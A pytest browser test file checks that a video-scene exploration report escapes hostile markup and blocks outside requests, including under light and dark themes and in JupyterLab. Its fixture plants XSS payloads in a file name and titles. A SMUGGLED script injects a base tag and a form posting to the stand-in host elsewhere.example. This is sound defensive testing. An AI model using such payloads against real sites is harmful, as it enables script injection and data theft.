"What a person sees: the page and the notebook in a real headless Chromium"
import json
import shutil
from pathlib import Path

import pytest
from dots import assert_nothing_is_sent, seen
from lab import run_all, watched

from scene_explore.datasets import world

from scene_explore.pipelines import explore

ROOT = Path(__file__).resolve().parent.parent
pytestmark = pytest.mark.browser


@pytest.fixture(scope='module')
def hostile(tmp_path_factory):
    "An exploration of a film whose name, titles and texts are markup"
    folder = tmp_path_factory.mktemp('hostile')
    film = world.render_film(
        3,
        folder / "<img src=x onerror=document.title='broken'>.mp4",
        seconds=24,
        shots=8,
        fps=6,
        size=(48, 84),
    )
    record = json.loads(film.with_suffix('.json').read_text())
    for o in record['content_metadata']['scenes']:
        o['title'] = "</script><script>document.title='broken'</script><b>bold</b>"
    film.with_suffix('.json').write_text(json.dumps(record))
    explore.explore(film, out=folder/'out', backbone='histogram', unit='annotated', progress=False)
    return folder/'out/explore.html'


@pytest.mark.parametrize('scheme', ['light', 'dark'])
def test_the_page_stands_alone(chromium, hostile, scheme):
    page, errors, outside = watched(chromium, color_scheme=scheme)
    page.goto(hostile.as_uri())
    page.wait_for_selector('body[data-drawn]')
    page.wait_for_selector('[data-panel=projection] .se-body[data-drawn]')
    assert {o.get_attribute('data-panel') for o in page.locator('[data-panel]').all()} >= {
        'projection',
        'player',
        'matrix',
        'neighbours',
        'timeline',
        'table',
    }
    assert not errors and not outside and page.title() != 'broken'
    assert (
        page.locator('main b b, main img[src=x]').count() == 0
        and page.locator('.figure .main-svg').count() > 1
    )
    ink = page.locator('.figure .xtitle, .figure .ytitle').first.evaluate(
        'e => getComputedStyle(e).fill'
    )
    assert (sum(map(int, ink[4:-1].split(','))) > 380) == (scheme == 'dark')
    assert page.evaluate('document.documentElement.scrollWidth <= innerWidth')
    page.close()


SMUGGLED = """() =>
    new Promise(done => {
      document.head.prepend(
        Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' }),
      )
      const form = Object.assign(document.createElement('form'), {
        action: 'https://elsewhere.example/take',
        method: 'post',
      })
      form.append(
        Object.assign(document.createElement('input'), { name: 'scenes', value: 'all of them' }),
      )
      document.body.append(form)
      const link = Object.assign(document.createElement('a'), { href: 'next' }).href
      document.addEventListener('securitypolicyviolation', e => {
        if (e.effectiveDirective === 'form-action') done({ base: document.baseURI, link })
      })
      form.submit()
    })"""


def test_markup_that_got_in_could_post_nothing_and_move_no_address(chromium, hostile):
    """Were a title ever not escaped, a form in it could not be sent, and a base in it would have no
    effect"""
    page, _, outside = watched(chromium)
    page.goto(hostile.as_uri())
    page.wait_for_selector('body[data-drawn]')
    found = page.evaluate(SMUGGLED)
    assert not outside and page.url == hostile.as_uri()
    assert found['base'] == hostile.as_uri() and found['link'].startswith('file:')
    page.close()


def test_a_figure_and_the_panels_share_what_is_pointed_at(chromium, hostile):
    page, errors, _ = watched(chromium)
    page.goto(hostile.as_uri())
    page.wait_for_selector('body[data-drawn]')
    page.wait_for_selector('[data-panel=projection] .se-body[data-drawn]')
    dot = list(seen(page).values())[2]
    page.mouse.move(*dot)
    tip = page.locator('.se-tip:not([hidden])')
    tip.wait_for()
    assert (
        '<b>bold</b>' in tip.inner_text()
        and tip.locator('img').evaluate('e => e.decode().then(() => e.naturalWidth)') > 50
    )
    page.mouse.click(*dot)
    page.wait_for_function('() => document.body.dataset.selection.length > 2')
    page.keyboard.press('Escape')
    assert page.evaluate('document.body.dataset.selection') == '[]' and not errors
    assert_nothing_is_sent(page)
    drawn = page.locator('.js-plotly-plot')
    assert set(drawn.evaluate_all('all => all.map(o => o._context.plotlyServerURL)')) == {''}
    page.close()


def test_the_explore_notebook_runs_in_jupyterlab(chromium, desk):
    shutil.copytree(
        ROOT,
        desk.folder / 'project',
        ignore=shutil.ignore_patterns(
            '.git',
            '.venv',
            'out',
            '_docs',
            '_proc',
            '_site',
            '.*_cache',
            '.hypothesis',
            '__pycache__',
        ),
    )
    page, errors, outside = watched(chromium)
    run_all(page, desk.open('project/nbs/studio/explore.ipynb'))
    page.wait_for_selector('[data-panel=projection] .se-body[data-drawn]')
    # what the panels ask is answered after the last cell
    page.wait_for_function(
        'document.querySelectorAll("[data-panel=library] .se-folder input").length === 6'
    )
    page.wait_for_function('document.querySelectorAll("[data-panel]").length === 10')
    assert not errors
    assert not outside, outside
    page.close()
